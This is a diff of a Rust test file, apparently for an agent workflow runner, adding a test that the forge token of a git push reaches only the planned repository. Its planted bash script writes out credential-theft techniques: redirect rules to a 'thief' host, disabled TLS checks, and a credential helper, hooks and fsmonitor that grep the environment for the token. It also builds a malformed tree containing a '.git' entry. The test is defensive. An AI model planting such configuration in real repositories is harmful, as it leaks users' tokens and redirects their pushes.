@@ -1,4 +1,6 @@
+use base64::Engine;
 use nofx_tests::fakes::forges::Forges;
+use nofx_tests::fakes::git_host::GitHost;
 use nofx_tests::own::Own;
 use nofx_tests::people::step;
 use nofx_tests::repository::{Repository, git};
@@ -101,6 +103,86 @@ async fn what_git_may_not_do_is_refused() {
     let id = other.submit(&one("git:pr", json!({"title": "x", "head": "x", "forge": "github", "repository": "acme/web"}), json!([]))).await;
     let run = other.wait(&id, Duration::from_secs(60), |run| run["gates"][0]["status"] == "pending").await;
     assert_eq!((&run["gates"][0]["gate_type"], &run["gates"][0]["author_may_approve"]), (&json!("manual:pr"), &json!(false)));
+}
+
+/// A workspace whose settings, objects and hooks lead to another host: none of it may get the token, or change what is pushed.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_token_of_a_push_reaches_the_repository_of_the_plan_alone() {
+    let thief = GitHost::start("https://127.0.0.1:1");
+    let host = GitHost::start(&thief.url());
+    let ports = format!("{},{}", host.port, thief.port);
+    // The thief's certificate, too: it would be believed.
+    let certificates = host.certificate().with_file_name("all.pem");
+    let both = [host.certificate(), thief.certificate()].map(|file| std::fs::read_to_string(file).expect("text")).concat();
+    std::fs::write(&certificates, both).expect("written");
+    let certificates = certificates.to_str().expect("text");
+    let settings = [("NOFX_STEP_PORTS", ports.as_str()), ("SSL_CERT_FILE", certificates), ("NOFX_SECRET_FORGE_TOKEN", "forge-token-1234")];
+    let own = Own::start_with(&Own::folder("git-planted"), &["--workers", "1"], &settings);
+    let (url, elsewhere) = (host.url(), thief.url());
+    let encoded = base64::engine::general_purpose::STANDARD.encode("x-access-token:forge-token-1234");
+    let plant = format!(
+        "git config user.name x; git config user.email x@example.com; git checkout -q -b agent; echo one > f; git add f; git commit -qm one
+        echo two > f; git commit -qam two; git rev-parse HEAD > /dev/null; git cat-file commit HEAD | sha256sum | cut -d' ' -f1 > sum
+        git config url.{elsewhere}/.insteadOf {url}/; git config url.{elsewhere}/.pushInsteadOf {url}/
+        git config http.proxy {elsewhere}; git config http.sslVerify false; git config remote.origin.pushurl {elsewhere}/acme.git
+        git config http.followRedirects true; git config push.recurseSubmodules on-demand; git config transfer.fsckObjects false
+        printf '#!/bin/sh\nenv | grep -e forge-token -e {encoded} >> '$PWD'/stolen && cat '$PWD'/stolen; exec cat\n' > thief.sh; chmod +x thief.sh
+        git config credential.helper $PWD/thief.sh; git config core.sshCommand $PWD/thief.sh; git config core.fsmonitor $PWD/thief.sh
+        git config core.askPass $PWD/thief.sh; git config core.hooksPath $PWD/hooks; git config core.gitProxy $PWD/thief.sh
+        mkdir hooks; cp thief.sh hooks/pre-push; cp thief.sh hooks/reference-transaction; cp thief.sh .git/hooks/pre-push
+        printf '[http]\n\textraHeader = \"X-Planted: yes\"\n\tproxy = {elsewhere}\n' > planted; git config include.path $PWD/planted
+        git init -q sub && git -C sub -c user.name=x -c user.email=x commit -q --allow-empty -m sub && printf '[submodule \"sub\"]\n\tpath = sub\n\turl = {elsewhere}/acme.git\n' > .gitmodules
+        echo $TMPDIR > .git/objects/info/alternates
+        git replace HEAD HEAD~1; git rev-parse HEAD > .git/info/grafts
+        git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/other; cat sum"
+    );
+    let look = "test -s stolen && echo stolen || echo nothing";
+    let plan = |name: &str, branch: Value| {
+        json!({"goal": "x", "workspace": {"git": format!("{url}/{name}"), "ref": "main"}, "steps": [
+            {"name": "plant", "tool": "bash", "inputs": {"script": plant}},
+            {"name": "push", "tool": "git:push", "needs": ["plant"], "on_failure": "continue", "secrets": ["FORGE_TOKEN"], "inputs": branch,
+                "retry": {"max_attempts": 1}},
+            {"name": "look", "tool": "bash", "needs": ["push"], "inputs": {"script": look}}]})
+    };
+    let run = own.run(&plan("acme.git", json!({}))).await;
+    let pushed = step(&run, "push");
+    assert_eq!(pushed["status"], "succeeded", "{run}");
+    let commit = pushed["outputs"]["commit"].as_str().expect("a commit");
+    assert_eq!(host.git(&["rev-parse", "refs/heads/agent"]).trim(), commit, "{run}");
+    let there = host.git(&["cat-file", "commit", "agent"]);
+    let sum = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&there));
+    assert_eq!(step(&run, "plant")["outputs"]["stdout"].as_str().map(str::trim), Some(sum.as_str()), "byte for byte: {there}");
+    assert_eq!(host.git(&["rev-list", "--count", "agent"]).trim(), "3", "with its history");
+    assert_eq!(step(&run, "look")["outputs"]["stdout"], "nothing\n", "no program of the workspace ran with a token: {run}");
+    assert_eq!(thief.requests(), Vec::<String>::new());
+    let header = format!("Basic {encoded}");
+    let requests = host.requests();
+    assert!(requests.iter().any(|one| one.contains("git-receive-pack") && one.ends_with(&header)), "{requests:?}");
+
+    // What the workspace says of the default branch does not count.
+    let run = own.run(&plan("acme.git", json!({"branch": "main"}))).await;
+    assert!(step(&run, "push")["error"]["message"].to_string().contains("default branch"), "{run}");
+    // A redirection would lead the token elsewhere.
+    let before = thief.requests().len();
+    let mut moved = plan("acme.git", json!({"branch": "x"}));
+    moved["workspace"]["git"] = json!(format!("{url}/moved/acme.git"));
+    moved["steps"][0]["inputs"]["script"] = json!("git checkout -q -b x");
+    let run = own.run(&moved).await;
+    assert_eq!(step(&run, "push")["status"], "failed", "{run}");
+    let asked = thief.requests();
+    assert!(asked.len() > before, "the clone, which has no token, was redirected: {run}");
+    assert!(asked.iter().all(|one| one.ends_with(" -")), "{asked:?}");
+    // What is no commit's history is not pushed.
+    let mut broken = plan("acme.git", json!({"branch": "broken"}));
+    broken["steps"][0]["inputs"]["script"] = json!(
+        "tree=$(printf '100644 .git\\0%b' \"$(git hash-object -w --stdin < /dev/null | sed 's/../\\\\x&/g')\" | git hash-object -w --literally -t tree --stdin)
+        git config user.name x; git config user.email x@example.com
+        git update-ref refs/heads/broken $(git commit-tree -m bad $tree); git symbolic-ref HEAD refs/heads/broken"
+    );
+    let run = own.run(&broken).await;
+    let message = step(&run, "push")["error"]["message"].to_string();
+    assert!(message.contains("is not valid") && message.contains(".git"), "{run}");
+    assert!(!run.to_string().contains("forge-token"), "{run}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
